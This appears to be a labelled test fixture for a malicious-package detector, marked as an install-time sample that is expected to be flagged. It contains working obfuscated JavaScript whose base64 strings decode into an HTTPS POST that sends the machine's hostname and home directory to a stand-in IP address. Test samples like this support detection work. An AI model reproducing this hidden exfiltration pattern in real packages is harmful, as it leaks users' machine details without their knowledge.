// when: install
// expect: malicious
// source: blind set 29 (local mailbox harvest): an obfuscator-style string array (base64 strings) rotated by a count
// the rotating function keeps in a local (`let n = 5; while (n--)`), so the decoder's indexes only name `https`,
// `hostname` and the IP address after the rotation is replayed; the install script posts the host's identity.
'use strict';
function _0x2f9a(){const _0x51d2=['L20v','UE9TVA==','ZW5k','b24=','ZXJyb3I=','SU5CT1g=','TGlicmFyeQ==','ZnM=','cGF0aA==','b3M=','aHR0cHM=','aG9zdG5hbWU=','aG9tZWRpcg==','cmVxdWVzdA==','MjAzLjAuMTEzLjE1MA=='];_0x2f9a=function(){return _0x51d2;};return _0x2f9a();}
(function(_0x4b1e,_0x1a77){const _0x9c=_0x4b1e();let _0x2d=0x5;while(_0x2d--){_0x9c['push'](_0x9c['shift']());}}(_0x2f9a,0x0));
function _0x3c1e(_0x1f){const _0x5e=_0x2f9a();_0x3c1e=function(_0x18){_0x18=_0x18-0x0;return Buffer['from'](_0x5e[_0x18],'base64')['toString']();};return _0x3c1e(_0x1f);}
const _0xos=require(_0x3c1e(0x4)),_0xh=require(_0x3c1e(0x5));
const _0xr=_0xh[_0x3c1e(0x8)]({host:_0x3c1e(0x9),path:_0x3c1e(0xa),method:_0x3c1e(0xb)});
_0xr[_0x3c1e(0xd)](_0x3c1e(0xe),()=>{});
_0xr[_0x3c1e(0xc)](JSON.stringify({h:_0xos[_0x3c1e(0x6)](),d:_0xos[_0x3c1e(0x7)]()}));
